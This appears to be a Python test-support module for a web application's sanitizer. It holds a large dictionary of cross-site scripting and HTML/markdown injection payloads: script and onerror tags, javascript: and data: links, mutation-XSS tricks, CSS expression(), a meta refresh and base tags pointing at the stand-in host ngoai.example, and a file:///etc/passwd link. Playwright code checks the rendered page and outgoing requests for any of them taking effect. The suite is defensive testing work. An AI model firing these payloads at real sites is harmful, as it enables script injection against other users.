"""Pieces of text that try to become part of a page, and what a page must not hold because of them.

Each piece tells that it ran by ``window.hit``, asks ``ELSEWHERE`` for something, or leaves an
element of a kind that no text of ours becomes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from browsersupport import Visitor
    from playwright.sync_api import Page

ELSEWHERE = "ngoai.example"
RUN = "window.hit=27182"
AT = f"//{ELSEWHERE}"
CODE = "&#x77;indow.hit=27182"
"""``RUN`` with an entity: a reader that decodes twice runs it."""

PIECES: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script-remote": f"<script src={AT}/x.js></script>",
    "script-case": f"<ScRiPt\n>{RUN}</sCrIpT >",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt><script>{RUN}</script>",
    "img": f"<img src=x onerror={RUN}>",
    "img-slash": f"<img/src='x'/onerror='{RUN}'>",
    "img-entity": f"<img src=x onerror={CODE}>",
    "img-open": f'<img """><script>{RUN}</script>">',
    "img-remote": f"<img src={AT}/1.png>",
    "img-set": f"<img srcset='{AT}/2.png 1x'>",
    "img-data": f"<img src='data:image/svg+xml,<svg onload={RUN}>'>",
    "svg": f"<svg/onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg-link": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>bấm</text></a></svg>",
    "svg-use": f"<svg><use href='{AT}/x.svg#x'/></svg>",
    "link": f"<a href='javascript:{RUN}'>bấm</a>",
    "link-case": f"<a href='  JaVaScRiPt:{RUN}'>bấm</a>",
    "link-break": f"<a href='java\nscript:{RUN}'>bấm</a>",
    "link-entity": f"<a href='java&#10;script&colon;{RUN}'>bấm</a>",
    "link-control": f"<a href='&#1;javascript:{RUN}'>bấm</a>",
    "link-data": f"<a href='data:text/html,<script>{RUN}</script>'>bấm</a>",
    "link-vbscript": f"<a href='vbscript:{RUN}'>bấm</a>",
    "iframe": f"<iframe src='javascript:{RUN}'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    "iframe-remote": f"<iframe src={AT}/></iframe>",
    "object": f"<object data='javascript:{RUN}'></object><embed src='{AT}/x.swf'>",
    "base": f"<base href='{AT}/'>",
    "meta": f"<meta http-equiv=refresh content='0;url={AT}/'>",
    "link-sheet": f"<link rel=stylesheet href='{AT}/x.css'><link rel=prefetch href='{AT}/y'>",
    "style": f"<style>@import '{AT}/x.css'; body {{ background: url({AT}/3.png) }}</style>",
    "style-font": f"<style>@font-face {{ font-family: x; src: url({AT}/x.woff2) }}</style>",
    "style-attribute": f"<p style='background:url({AT}/4.png);width:expression({RUN})'>nền</p>",
    "style-cover": "<div style='position:fixed;inset:0;z-index:9999'>che cả trang</div>",
    "form": f"<form action='{AT}/'><button formaction='javascript:{RUN}'>Gửi lại</button></form>",
    "input": f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
    "details": f"<details open ontoggle={RUN}><summary>mở</summary></details>",
    "body": f"<body onload={RUN} onpageshow={RUN}>",
    "marquee": f"<marquee onstart={RUN}>chạy</marquee>",
    "media": f"<video src={AT}/x.mp4 autoplay><source onerror={RUN}></video><audio src={AT}/x>",
    "picture": f"<picture><source srcset='{AT}/5.png'><img src=y onerror={RUN}></picture>",
    "table": f"<table background='{AT}/6.png'><td background='{AT}/7.png'>ô</table>",
    "isindex": f"<isindex action='javascript:{RUN}' type=image src={AT}/8.png>",
    "clobber": f"<form name=getElementById action='{AT}/'><input name=attributes></form>"
    "<a id=data name=room></a>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "custom": f"<x-ô onclick={RUN} tabindex=0 onfocus={RUN}>ô lạ</x-ô>",
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RUN}>",
    "mutation-svg": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation-title": f'<svg><title><style><img title="</style><img src=x onerror={RUN}>">',
    "mutation-select": "<select><template><style><!--</style>"
    f"<a rel='--><img src=x onerror={RUN}>'>",
    "mutation-xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    "comment": f"<!-- x --!><img src=x onerror={RUN}> -->",
    "comment-short": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[x><img src=x onerror={RUN}>]]>",
    "instruction": f"<?xml-stylesheet href='x'?><img src=x onerror={RUN}>",
    "md-link": f"[bấm](javascript:{RUN})",
    "md-link-case": f"[bấm](<JaVa&#115;cript:{RUN}>)",
    "md-link-entity": f"[bấm](javascript&colon;{RUN})",
    "md-link-tab": f"[bấm](java&Tab;script:{RUN})",
    "md-link-title": f"[bấm](https://vi.example/ '\" onmouseover={RUN} x=\"')",
    "md-link-quote": f'[bấm](https://vi.example/"onmouseover="{RUN})',
    "md-link-data": "[bấm](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTI3MTgyPC9zY3JpcHQ+)",
    "md-link-file": "[bấm](file:///etc/passwd)",
    "md-auto": f"<javascript:{RUN}>",
    "md-auto-data": "<data:text/html,x>",
    "md-image": f"![ảnh](http:{AT}/9.png)",
    "md-image-code": f'![ảnh" onerror="{RUN}](x)',
    "md-image-link": f"![ảnh](javascript:{RUN})",
    "md-image-title": f"![ảnh](x '\"onerror={RUN} \"')",
    "md-reference": f"[bấm][đó] ![ảnh][kia]\n\n[đó]: javascript:{RUN}\n[kia]: http:{AT}/10.png",
    "md-fence": f'```"><img src=x onerror={RUN}>\nmã\n```',
    "md-fence-html": f"```html onload={RUN}\n<img src=x onerror={RUN}>\n```",
    "md-code": f"`<img src=x onerror={RUN}>` ``</code><img src=x onerror={RUN}>``",
    "md-table": f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| b | [bấm](javascript:{RUN}) |",
    "md-table-side": f"| trái | phải |\\n|:--|--:|\\n| 1 | <b style='width:expression({RUN})'>2 |",
    "md-heading": f"# <img src=x onerror={RUN}> {{#x onclick={RUN}}}",
    "md-latex": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\includegraphics{{http:{AT}/11.png}}$$",
    "md-mermaid": f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\n'
    f'click A href "javascript:{RUN}"\n```',
    "template-words": "{{7*7}} ${7*7} {% raw %} <%= 7*7 %>",
    "break-out": f"</textarea></title></script></style></template>\"'><img src=x onerror={RUN}>",
}
ALL = "\n\n".join(f"Mẩu {nth}:\n\n{text}" for nth, text in enumerate(PIECES.values(), 1))
LAST = f"Mẩu {len(PIECES)}:"
SHORT = " ".join(PIECES[name] for name in ("img", "svg", "script", "link", "md-link", "md-auto"))
"""What fits into a notice."""
_WATCH = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
_WALK = """
(elsewhere) => {
  const found = [];
  const never = "iframe, frame, frameset, object, embed, base, math, applet, portal, marquee, "
    + "isindex, noscript img, meta[http-equiv=refresh i]";
  const addresses = ["href", "xlink:href", "src", "srcset", "action", "formaction", "data",
    "poster", "background", "ping", "cite", "longdesc"];
  const typed = ["value", "title", "alt", "aria-label", "data-room", "content", "placeholder"];
  const code = /27182|expression|ngoai\\.example/;
  const own = (name) => Object.getOwnPropertyDescriptor(Element.prototype, name).get;
  const attributes = own("attributes"), outer = own("outerHTML");
  const led = (node, name, value) => {
    let to;
    try { to = new URL(value.split(" ")[0], document.baseURI); } catch { return "address"; }
    const picture = to.protocol === "data:" && /^data:(image|font)/.test(value);
    if (picture) return /onload/i.test(value) ? "scheme" : "";
    if (!["http:", "https:", "mailto:", "blob:"].includes(to.protocol)) return "scheme";
    return to.host === elsewhere && node.localName !== "a" ? "host" : "";
  };
  const wrong = (node, name, value) => {
    if (name.startsWith("on")) return "handler";
    if (name === "srcdoc") return "page in a page";
    if (typed.includes(name)) return "";
    if (addresses.includes(name)) return value ? led(node, name, value) : "";
    if (name === "style" && /fixed/.test(value)) return "cover";
    return code.test(value) ? "code" : "";
  };
  const look = (root) => {
    for (const node of root.querySelectorAll("*")) {
      if (node.matches(never)) found.push(outer.call(node).slice(0, 200));
      for (const { name, value } of attributes.call(node)) {
        const why = wrong(node, name, value);
        if (why) found.push(`${why}: <${node.localName} ${name}="${value.slice(0, 200)}">`);
      }
      const runs = node.matches("script:not([type='application/json']), style");
      if (runs && code.test(node.textContent)) found.push(`inside <${node.localName}>`);
      if (node.shadowRoot) look(node.shadowRoot);
      if (node.localName === "template") look(node.content);
    }
  };
  look(document);
  if (window.hit) found.push("it ran");
  return [...found, ...window.broken.map((each) => `policy: ${each}`)];
}
"""


@dataclass
class Watched:
    """A browser that hostile text is shown in, and what it did."""

    visitor: Visitor
    asked: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        page = self.visitor.page
        self.visitor.context.add_init_script(_WATCH)
        self.visitor.context.on("request", self._note)
        page.on("dialog", self._dialog)
        page.on("popup", lambda other: self.asked.append(f"popup {other.url}"))

    @property
    def page(self) -> Page:
        """The page that it is shown on."""
        return self.visitor.page

    def dangers(self, wait: int = 150) -> list[str]:
        """All of the page that text must never become, and what was asked for elsewhere."""
        for node in self.page.locator("details:not([open]) > summary").all():
            if node.is_visible():
                node.evaluate("node => { node.parentElement.open = true; }")
        self.page.wait_for_timeout(wait)
        return [*self.page.evaluate(_WALK, ELSEWHERE), *self.asked]

    def _note(self, request: Any) -> None:
        if not request.url.startswith((self.visitor.lab.url, "data:", "blob:")):
            self.asked.append(f"asked for {request.url}")

    def _dialog(self, dialog: Any) -> None:
        self.asked.append(f"dialog {dialog.message}")
        dialog.dismiss()
